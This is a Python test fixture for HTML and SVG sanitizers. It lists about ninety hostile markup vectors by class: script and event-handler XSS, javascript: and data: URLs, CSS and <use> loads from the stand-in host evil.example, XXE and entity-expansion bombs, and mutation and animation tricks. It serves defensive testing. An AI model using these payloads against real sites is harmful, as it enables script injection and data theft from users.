# ruff: noqa: E501 (a data table: each vector on one line reads better than split strings)
"""Hostile HTML and SVG, by class of attack, for the caption and icon sanitizers.

Written here after the classes the public corpora exercise (DOMPurify's tests, the OWASP
filter-evasion cheat sheet, H5SC, html5lib's sanitizer tests, svg-sanitizer's files). A
vector that works calls `__pwned("<name>")` when its script runs, or fetches a URL on
`evil.example` when it loads something from outside: tests/security/test_hostile_markup.py
renders what the sanitizers store in headless Chromium and watches for both.
"""

EVIL = "http://evil.example"
SVG = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
P = "__pwned"

# (class, markup). Every vector is fed to both sanitizers: the caption sanitizer takes it as
# HTML; the icon sanitizer takes it as is when it is an <svg> document, else wrapped in one.
VECTORS: list[tuple[str, str]] = [
    # Script elements
    ("script", f"<script>{P}('script')</script>"),
    ("script", f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>"),
    ("script", f"<script/xss src='{EVIL}/x2.js'></script>"),
    ("script", f"<<script>script>{P}('nested')<</script>/script>"),
    ("script", f"<scr<script>ipt>{P}('split')</scr</script>ipt>"),
    ("script", f"<svg {SVG}><script>{P}('svg-script')</script></svg>"),
    ("script", f'<svg {SVG} {XLINK}><script xlink:href="{EVIL}/x3.js"/></svg>'),
    ("script", f"<svg {SVG}><script><![CDATA[{P}('cdata')]]></script></svg>"),
    ("script", f"<template><script>{P}('template')</script></template>"),
    ("script", f"<iframe srcdoc=\"<script>parent.{P}('srcdoc')</script>\"></iframe>"),
    ("script", f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">'),
    ("script", f'<base href="{EVIL}/"><a href="x">relative</a>'),
    ("script", f'<meta http-equiv="refresh" content="0;url=javascript:{P}(\'meta\')">'),
    # Style elements
    ("style", f"<style>@import '{EVIL}/a.css';</style><p>x</p>"),
    ("style", f"<style>p {{ background: url({EVIL}/b.png) }}</style><p>x</p>"),
    ("style", f'<link rel="stylesheet" href="{EVIL}/c.css"><p>x</p>'),
    ("style", f"<svg {SVG}><style>@import url({EVIL}/d.css);</style><rect width='9' height='9'/></svg>"),
    ("style", f"<svg {SVG}><style>rect {{ fill: url({EVIL}/e.svg#p) }}</style><rect width='9' height='9'/></svg>"),
    # Event handlers
    ("handler", f"<img src=x onerror={P}('img-onerror')>"),
    ("handler", f"<p onmouseover=\"{P}('p-mouseover')\" onclick=\"{P}('p-click')\">hover</p>"),
    ("handler", f"<details open ontoggle=\"{P}('ontoggle')\"><summary>x</summary></details>"),
    ("handler", f"<input autofocus onfocus=\"{P}('onfocus')\">"),
    ("handler", f"<video><source onerror=\"{P}('source')\"></video>"),
    ("handler", f"<body onload=\"{P}('body')\">"),
    ("handler", f"<svg {SVG} onload=\"{P}('svg-onload')\"><rect width='9' height='9'/></svg>"),
    ("handler", f"<svg {SVG}><rect width='9' height='9' onclick=\"{P}('rect-click')\"/></svg>"),
    ("handler", f"<svg {SVG}><g onmouseover=\"{P}('g-hover')\"><rect width='9' height='9'/></g></svg>"),
    ("handler", f"<svg {SVG}><image href='x' onerror=\"{P}('image-onerror')\"/></svg>"),
    ("handler", f"<a href='https://example.com/' ONCLICK=\"{P}('upper')\">x</a>"),
    ("handler", f"<p/onmouseover={P}('slash')>x</p>"),
    # javascript:, data:, vbscript: URLs and their encodings
    ("url", f"<a href=\"javascript:{P}('js')\">x</a>"),
    ("url", f"<a href=\"JaVaScRiPt:{P}('case')\">x</a>"),
    ("url", f"<a href=\" &#14;  javascript:{P}('space')\">x</a>"),
    ("url", f"<a href=\"jav&#x09;ascript:{P}('tab')\">x</a>"),
    ("url", f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{P}('entities')\">x</a>"),
    ("url", f"<a href=\"javascript&colon;{P}('colon')\">x</a>"),
    ("url", f"<a href=\"data:text/html,<script>{P}('data')</script>\">x</a>"),
    ("url", '<a href="vbscript:msgbox(1)">x</a>'),
    ("url", f"<iframe src=\"javascript:parent.{P}('iframe')\"></iframe>"),
    ("url", f"<form action=\"javascript:{P}('form')\"><button>x</button></form>"),
    ("url", '<a href="//evil.example/protocol-relative">x</a>'),
    ("url", f"<svg {SVG} {XLINK}><a xlink:href=\"javascript:{P}('svg-a')\"><text y='9'>x</text></a></svg>"),
    ("url", f"<svg {SVG}><a href=\" java&#x0A;script:{P}('svg-a2')\"><text y='9'>x</text></a></svg>"),
    (
        "url",
        f"<svg {SVG} {XLINK}><a xlink:href=\"data:text/html,<script>{P}(1)</script>\"><text y='9'>x</text></a></svg>",
    ),
    # CSS url(), image-set(), @import, escapes
    ("css", f'<p style="background:url({EVIL}/f.png)">x</p>'),
    ("css", f"<p style=\"background-image:image-set('{EVIL}/g.png' 1x)\">x</p>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' fill=\"url({EVIL}/h.svg#p)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' mask=\"image-set('{EVIL}/m.png' 1x)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' mask=\"-webkit-image-set(url({EVIL}/w.png) 1x)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' filter=\"url(//evil.example/f.svg#f)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' style=\"fill:u\\72l({EVIL}/esc.svg#p)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' style=\"cursor:url({EVIL}/cur.png),auto\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' style=\"mask-image:image-set('{EVIL}/mi.png' 1x)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' clip-path=\"url('{EVIL}/c.svg#c')\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' style=\"fill:red;/**/background:url({EVIL}/cm.png)\"/></svg>"),
    ("css", f"<svg {SVG}><rect width='9' height='9' marker-end=\"url({EVIL}/mk.svg#m)\"/></svg>"),
    # <use> chains, external documents and entities
    ("use", f'<svg {SVG}><use href="{EVIL}/sprite.svg#a"/></svg>'),
    ("use", f'<svg {SVG} {XLINK}><use xlink:href="//evil.example/sprite.svg#b"/></svg>'),
    (
        "use",
        f'<svg {SVG}><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0nX19wd25lZCgidXNlLWRhdGEiKScvPjwvc3ZnPg==#x"/></svg>',
    ),
    (
        "use",
        f"<svg {SVG}><defs><path id='a' d='M0 0h1v1z'/>"
        + "".join(
            f"<g id='{b}'>" + f"<use href='#{a}'/>" * 10 + "</g>" for a, b in zip("abcdefghi", "bcdefghij", strict=True)
        )
        + "</defs><use href='#j'/></svg>",
    ),
    ("use", f"<svg {SVG}><g id='loop'><use href='#loop'/></g></svg>"),
    ("use", f'<!DOCTYPE svg [<!ENTITY x "{EVIL}/ent.png">]><svg {SVG}><image href="&x;"/></svg>'),
    ("use", f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{EVIL}/xxe">]><svg {SVG}><text>&e;</text></svg>'),
    (
        "use",
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f"<svg {SVG}><text>&b;</text></svg>",
    ),
    ("use", f"<svg {SVG}><image href=\"{EVIL}/i.png\" width='9' height='9'/></svg>"),
    (
        "use",
        f"<svg {SVG}><filter id='f'><feImage href=\"{EVIL}/fe.png\"/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    ),
    ("use", f"<svg {SVG}><pattern id='p' href=\"{EVIL}/pat.svg#q\"/><rect fill='url(#p)' width='9' height='9'/></svg>"),
    # Namespace and mutation tricks
    ("mutation", f"<svg></p><style><a id=\"</style><img src=1 onerror={P}('mx1')>\">"),
    ("mutation", f"<svg><p><style><img src=x onerror={P}('mx2')></style></p></svg>"),
    (
        "mutation",
        f"<math><mtext><table><mglyph><style><img src=x onerror={P}('mx3')></style></mglyph></table></mtext></math>",
    ),
    ("mutation", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}('mx4')>"),
    ("mutation", f"<noscript><p title=\"</noscript><img src=x onerror={P}('mx5')>\"></noscript>"),
    ("mutation", f"<!--><img src=x onerror={P}('mx6')>-->"),
    ("mutation", f"<![CDATA[><img src=x onerror={P}('mx7')>]]>"),
    ("mutation", f"<title><img src=x onerror={P}('mx8')></title>"),
    ("mutation", f"<textarea><img src=x onerror={P}('mx9')></textarea>"),
    ("mutation", f"<a title=\"&lt;img src=x onerror={P}('mx10')&gt;\">x</a>"),
    ("mutation", f"<svg {SVG}><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{P}('ns-script')</x:script></svg>"),
    (
        "mutation",
        f"<svg {SVG}><html:img xmlns:html='http://www.w3.org/1999/xhtml' src='x' onerror=\"{P}('ns-img')\"/></svg>",
    ),
    ("mutation", f"<svg {SVG}><desc><![CDATA[</desc><script>{P}('desc')</script>]]></desc></svg>"),
    ("mutation", f"<svg {SVG}><title>&lt;/title&gt;&lt;img src=x onerror={P}('title-esc')&gt;</title></svg>"),
    ("mutation", f"<svg {SVG}><text><tspan>&lt;script&gt;{P}('text')&lt;/script&gt;</tspan></text></svg>"),
    # foreignObject
    (
        "foreignObject",
        f"<svg {SVG}><foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'>"
        f"<img src='x' onerror=\"{P}('fo-img')\"/></body></foreignObject></svg>",
    ),
    (
        "foreignObject",
        f"<svg {SVG}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}/fo'/></foreignObject></svg>",
    ),
    (
        "foreignObject",
        f"<svg><foreignObject><math><mi xlink:href=\"javascript:{P}('fo-math')\">x</mi></math></foreignObject></svg>",
    ),
    (
        "foreignObject",
        f"<svg {SVG}><switch><foreignObject><p xmlns='http://www.w3.org/1999/xhtml' style='background:url({EVIL}/sw.png)'>x</p></foreignObject></switch></svg>",
    ),
    # Animation elements
    (
        "animation",
        f"<svg {SVG}><set attributeName='onmouseover' to=\"{P}('set-handler')\"/><rect width='9' height='9'/></svg>",
    ),
    (
        "animation",
        f"<svg {SVG}><a><animate attributeName='href' values=\"javascript:{P}('animate-href')\"/><text y='9'>x</text></a></svg>",
    ),
    ("animation", f"<svg {SVG} {XLINK}><use><set attributeName='xlink:href' to=\"{EVIL}/anim.svg#a\"/></use></svg>"),
    ("animation", f"<svg {SVG}><animate onbegin=\"{P}('onbegin')\" attributeName='x' dur='1s'/></svg>"),
    (
        "animation",
        f"<svg {SVG}><rect width='9' height='9'><animate attributeName='fill' values=\"url({EVIL}/af.svg#p)\" dur='1s'/></rect></svg>",
    ),
    ("animation", f"<svg {SVG}><discard onbegin=\"{P}('discard')\"/></svg>"),
    (
        "animation",
        f"<svg {SVG}><animateTransform attributeName='transform' type='rotate' from='0' to='9' dur='1s' onend=\"{P}('onend')\"/></svg>",
    ),
    (
        "animation",
        f"<svg {SVG}><a><set attributeName='href' to=\"javascript:{P}('set-href')\" begin='0s'/><text y='9'>x</text></a></svg>",
    ),
]

CLASSES = sorted({kind for kind, _ in VECTORS})


def as_icon(markup: str) -> str:
    """The vector as an icon: itself when it is an SVG document, else inside one."""
    stripped = markup.lstrip()
    if stripped.startswith(("<svg", "<!DOCTYPE svg", "<?xml")):
        return markup
    return f"<svg {SVG}>{markup}</svg>"
